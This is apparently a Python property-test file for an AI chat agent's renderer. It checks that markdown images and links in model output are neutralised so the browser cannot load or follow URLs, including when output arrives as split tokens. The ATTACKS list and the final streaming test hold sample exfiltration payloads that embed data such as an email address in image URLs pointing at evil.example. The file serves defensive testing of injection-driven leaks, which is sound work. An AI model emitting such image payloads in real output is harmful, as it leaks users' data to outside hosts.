"""Nothing from the model or from data can make the browser load or link a URL: every string, streamed in any
pieces, renders (CommonMark, as the chat does) without an image or a link, and reads the same once the zero-width
spaces are removed (an autolink <http://...>, which shows its own URL, may stay). Property-tested over strings made of brackets, escapes, bangs, parentheses and colons."""

from __future__ import annotations

from types import SimpleNamespace

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.core.render import ZWSP, StreamNeutraliser, neutralise
from agent.ui.chat_import import preview_markdown

MD = MarkdownIt("commonmark")
ATTACKS = ["![x](http://evil.example/?leak=jane@acme.com)", "![a\\]b](http://evil.example/1)",
           "![a[b]c](http://evil.example/2)", "![a](<http://evil.example/3>)", "![x][r]\n\n[r]: http://evil.example/4",
           "![r]\n\n[r]: http://evil.example/5", "[click](http://evil.example/6)", "\\\\![x](http://evil.example/7)",
           "![x]( http://evil.example/8 \"t\")", "![![x](http://evil.example/9)](http://evil.example/10)"]
pieces = st.text(alphabet="![]()\\:<>`ab /\n\"", max_size=60)


def loads_or_links(markdown: str) -> list[str]:
    """Images, and links whose text hides their URL (an autolink <http://...> shows its URL: it stays)."""
    found = []
    for token in MD.parse(markdown):
        for child in token.children or []:
            if child.type == "image" or (child.type == "link_open" and child.markup != "autolink"):
                found.append(child.type)
    return found


def streamed(parts: list[str]) -> str:
    stream = StreamNeutraliser()
    return "".join(stream.feed(p) for p in parts)


def test_the_known_attacks_render_as_plain_text():
    for attack in ATTACKS:
        assert loads_or_links(attack), f"the attack itself should render an image or link: {attack!r}"
        assert not loads_or_links(neutralise(attack)), attack
        assert neutralise(attack).replace(ZWSP, "") == attack


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(ATTACKS) | pieces, max_size=6))
def test_no_string_renders_an_image_or_a_link_and_the_text_stays(parts):
    text = "".join(parts)
    out = neutralise(text)
    assert not loads_or_links(out), out
    assert out.replace(ZWSP, "") == text
    assert neutralise(out) == out  # idempotent


@settings(max_examples=400, deadline=None)
@given(pieces, st.lists(st.integers(min_value=0, max_value=60), max_size=8))
def test_streaming_in_any_pieces_gives_the_same_text(text, cuts):
    bounds = sorted({0, len(text), *[c for c in cuts if c <= len(text)]})
    parts = [text[a:b] for a, b in zip(bounds, bounds[1:], strict=False)]
    assert streamed(parts) == neutralise(text)
    assert not loads_or_links(streamed(parts))


def test_the_csv_card_shows_the_first_50_columns_and_summarises_the_rest():
    headers = [f"col{i}" for i in range(10_000)]
    preview = SimpleNamespace(mapping={h: ("email" if i == 0 else "attribute") for i, h in enumerate(headers)},
                              sample_rows=[{h: "x" * 30 for h in headers}] * 5, headers=headers, encoding="utf-8",
                              delimiter=",", warnings=[f"warning {i}" for i in range(500)])
    card = preview_markdown("wide.csv", preview)
    assert len(card) < 40_000, len(card)
    assert "col49" in card and "col50 " not in card and "col9999" not in card
    assert "9,950 more columns not shown (9,950 → attribute)" in card
    assert "…and 480 more" in card and len(card.split("**First rows:**")[1].splitlines()[2].split("|")) == 52


def test_the_chat_streams_tokens_neutralised_before_they_leave():
    import asyncio
    from unittest.mock import AsyncMock, Mock

    from chainlit.context import ChainlitContext, context_var
    from chainlit.session import WebsocketSession

    from agent.ui.chat_ui import TurnView

    session = Mock(spec=WebsocketSession, id="s1", thread_id="t1", emit=AsyncMock(), user=None)
    session.client_type, session.files, session.current_task = "webapp", {}, None

    async def go():
        context_var.set(ChainlitContext(session))
        view = TurnView()
        for token in ["Look: !", "[x", "](http://evil.example/?leak=jane@acme.com)", " ok"]:
            await view.on_token(token)

    asyncio.run(go())
    sent = "".join(call.args[1]["output"] for call in session.emit.call_args_list if call.args[0] == "stream_start")
    sent += "".join(call.args[1]["token"] for call in session.emit.call_args_list if call.args[0] == "stream_token")
    assert sent.replace(ZWSP, "") == "Look: ![x](http://evil.example/?leak=jane@acme.com) ok"
    assert not loads_or_links(sent), sent
